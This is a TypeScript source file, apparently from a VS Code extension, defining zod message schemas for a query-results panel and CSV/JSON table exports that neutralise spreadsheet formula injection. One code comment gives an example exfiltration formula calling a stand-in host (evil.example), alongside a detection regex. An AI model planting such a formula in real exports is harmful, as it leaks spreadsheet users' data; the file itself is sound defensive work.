// The messages between the query results panel and the extension host, both ways, as zod schemas; and
// the table exports (CSV, JSON) the page makes and the tests check byte for byte. No vscode import.
import * as z from 'zod';

export const RESULTS_VIEW_TYPE = 'obs.queryResults';

const Cell = z.union([z.string(), z.number(), z.boolean(), z.null()]);
export type Cell = z.infer<typeof Cell>;

/** One line of the chart: a group (breakdown values, '' without breakdowns) and one aggregate. */
export const ChartLine = z.strictObject({
  group: z.string(),
  aggregate: z.string(),
  values: z.array(z.number().nullable()),
});
export type ChartLine = z.infer<typeof ChartLine>;

export const Chart = z.strictObject({
  /** Epoch seconds, ascending. */
  times: z.array(z.number()),
  aggregates: z.array(z.string()),
  lines: z.array(ChartLine),
  /** Said plainly above the chart (e.g. a coarser step than asked for). */
  note: z.string().optional(),
});
export type Chart = z.infer<typeof Chart>;

export const Table = z.strictObject({
  columns: z.array(z.string()),
  rows: z.array(z.array(Cell)),
  /** Columns holding times (ISO 8601 UTC text): shown as relative time with the exact UTC time on hover. */
  timeColumns: z.array(z.number().int().nonnegative()).optional(),
});
export type Table = z.infer<typeof Table>;

const Firing = z.strictObject({ start: z.number(), end: z.number().nullable(), groups: z.array(z.string()) });

export const Preview = z.strictObject({
  summary: z.string(),
  notes: z.array(z.string()),
  threshold: z.strictObject({ op: z.enum(['>', '>=', '<', '<=']), value: z.number(), label: z.string() }),
  firings: z.array(Firing),
  exact: z.boolean(),
  /** What the chart's values are, e.g. "COUNT over 20 min" or "% change of COUNT against 1 d earlier". */
  valueLabel: z.string(),
});
export type Preview = z.infer<typeof Preview>;

export const ResultsModel = z.strictObject({
  title: z.string(),
  subtitle: z.string(),
  status: z.enum(['complete', 'incomplete', 'failed']),
  /** What failed, for the page's words: a query (default) or a trigger preview. */
  subject: z.enum(['query', 'preview']).optional(),
  /** When the result was read from the service (epoch milliseconds). */
  ranAt: z.number().optional(),
  /** Set on a panel brought back after a window reload: what it shows is as of `ranAt`. */
  restored: z.boolean().optional(),
  /** A line said under the title whatever the status (e.g. that the connection is gone). */
  note: z.string().optional(),
  /** Why it is incomplete or failed, in the service's words where it gave any. */
  message: z.string().optional(),
  chart: Chart.nullable(),
  table: Table.nullable(),
  totals: z.array(z.strictObject({ title: z.string(), rows: z.array(z.tuple([z.string(), Cell])) })),
  /** Which of the result's links passed the check and can be opened. */
  links: z.strictObject({ query: z.boolean(), graph: z.boolean() }),
  preview: Preview.optional(),
  /** Whether "Run Again" (and "with Options") applies. */
  canRerun: z.boolean(),
});
export type ResultsModel = z.infer<typeof ResultsModel>;

/**
 * What a panel needs to come back after a window reload, besides its model: how to run it again (the
 * connection by id, never a key) and the result's links, checked again against the connection on restore.
 */
export const ResultsRun = z.discriminatedUnion('kind', [
  z.strictObject({
    kind: z.literal('query'),
    connectionId: z.string().min(1),
    dataset: z.string().min(1),
    queryId: z.string().min(1),
    label: z.string(),
    request: z.strictObject({
      query_id: z.string().min(1),
      disable_series: z.boolean().optional(),
      disable_total_by_aggregate: z.boolean().optional(),
      disable_other_by_aggregate: z.boolean().optional(),
      limit: z.number().int().optional(),
    }),
  }),
  z.strictObject({
    kind: z.literal('preview'),
    connectionId: z.string().min(1),
    dataset: z.string().min(1),
    key: z.string().min(1),
    where: z.string(),
    /** The trigger as it was previewed (from the service, or a file's text with unsaved edits). */
    trigger: z.looseObject({ name: z.string() }),
    windowSeconds: z.number().int().positive(),
    mode: z.enum(['exact', 'coarse']),
  }),
]);
export type ResultsRun = z.infer<typeof ResultsRun>;

export const SavedRun = z.strictObject({
  run: ResultsRun,
  links: z.strictObject({ query: z.string().optional(), graph: z.string().optional() }),
});
export type SavedRun = z.infer<typeof SavedRun>;

/** The page's saved state: the last model shown (left out when too large to keep) and how to run it again. */
export const ResultsState = z.strictObject({
  title: z.string(),
  model: ResultsModel.optional(),
  saved: SavedRun.optional(),
});
export type ResultsState = z.infer<typeof ResultsState>;

/** A model whose JSON is longer than this is not kept across a window reload (Run Again brings it back). */
export const MAX_STATE_CHARS = 4_000_000;

export const ResultsToWebview = z.discriminatedUnion('type', [
  z.strictObject({
    type: z.literal('show'),
    model: ResultsModel,
    saved: SavedRun.optional(),
    title: z.string().optional(),
  }),
  z.strictObject({ type: z.literal('busy'), label: z.string().nullable() }),
  z.strictObject({ type: z.literal('exported'), message: z.string() }),
]);
export type ResultsToWebview = z.infer<typeof ResultsToWebview>;

/** An exported table is at most this long (what a save dialog or the clipboard is given). */
const MAX_EXPORT_CHARS = 50_000_000;

export const ResultsFromWebview = z.discriminatedUnion('type', [
  z.strictObject({ type: z.literal('ready') }),
  z.strictObject({
    type: z.literal('export'),
    format: z.enum(['csv', 'json']),
    action: z.enum(['copy', 'save']),
    text: z.string().max(MAX_EXPORT_CHARS),
  }),
  z.strictObject({ type: z.literal('openLink'), which: z.enum(['query', 'graph']) }),
  z.strictObject({ type: z.literal('rerun'), withOptions: z.boolean() }),
]);
export type ResultsFromWebview = z.infer<typeof ResultsFromWebview>;

/**
 * Text a spreadsheet would take for a formula (or a DDE call): it starts with = + - @ (or their full-width
 * forms), a tab or a carriage return, perhaps after spaces and line breaks. Group values and column names
 * come from event data that outsiders can write, e.g. `=HYPERLINK("http://evil.example/?"&A2,"x")`.
 */
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;

function csvCell(c: Cell): string {
  if (c === null) return '';
  const s = String(c);
  // Numbers are written as numbers (-3 stays -3); text that would run as a formula gets a leading
  // apostrophe, quoted, so a spreadsheet shows it as text (OWASP's advice on CSV injection).
  if (typeof c === 'string' && FORMULA_START.test(s)) return `"'${s.replace(/"/g, '""')}"`;
  // A semicolon or a tab is a separator to spreadsheets in some locales and when pasted: quoted, a cell such
  // as `a;=1+1` stays one cell of text rather than splitting into one that runs.
  return /[",;\t\r\n]/.test(s) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * RFC 4180 CSV: a header line, then one line per row, CRLF line ends, fields quoted where needed; text a
 * spreadsheet would evaluate stays text (csvCell).
 */
export function toCsv(table: Table): string {
  const lines = [table.columns.map(csvCell).join(','), ...table.rows.map((r) => r.map(csvCell).join(','))];
  return `${lines.join('\r\n')}\r\n`;
}

/** JSON: one object per row, keyed by column, as the service named them. */
export function toJson(table: Table): string {
  const objects = table.rows.map((r) => Object.fromEntries(table.columns.map((c, i) => [c, r[i] ?? null])));
  return `${JSON.stringify(objects, null, 2)}\n`;
}
